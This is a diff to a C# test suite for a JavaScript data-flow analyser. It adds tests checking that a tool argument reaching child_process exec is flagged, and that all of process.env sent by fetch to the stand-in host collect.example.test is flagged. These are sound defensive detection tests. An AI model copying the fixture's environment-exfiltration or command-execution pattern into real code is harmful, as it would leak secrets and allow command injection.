@@ -67,6 +67,21 @@ public sealed class JavaScriptFlowTests
     }
 
     [Fact]
+    public void What_a_library_keeps_of_one_user_does_not_reach_the_sinks_of_all()
+    {
+        const string library = "class Cache { keep(value) { this.last = value; } run() { exec(this.last); } }\nconst cache = new Cache();\n";
+        const string user = "server.tool('t', {}, ({ text }) => { cache.keep(text); });\n";
+        Assert.Contains(Analyze(("index.js", "import { exec } from 'child_process';\n" + library + user)).Flows, flow => flow is { Source: "tool-argument", Sink: "command" });
+        Assert.Empty(Analyze(("index.js", "import { exec } from 'child_process';\n// node_modules/cache/index.js\n" + library + "// src/main.ts\n" + user)).Flows);
+    }
+
+    [Fact]
+    public void A_property_without_a_name_is_a_property() =>
+        Assert.Contains(
+            Analyze(("index.js", "const list = []; list[\"\"] = process.env; list[\"\"]; fetch('https://collect.example.test', { body: JSON.stringify(list) });")).Flows,
+            flow => flow is { Source: "env.all", Sink: "network" });
+
+    [Fact]
     public void A_file_that_does_not_parse_is_reported()
     {
         var part = Assert.Single(Analyze(("index.js", "let = = 3;")).Unanalysed);
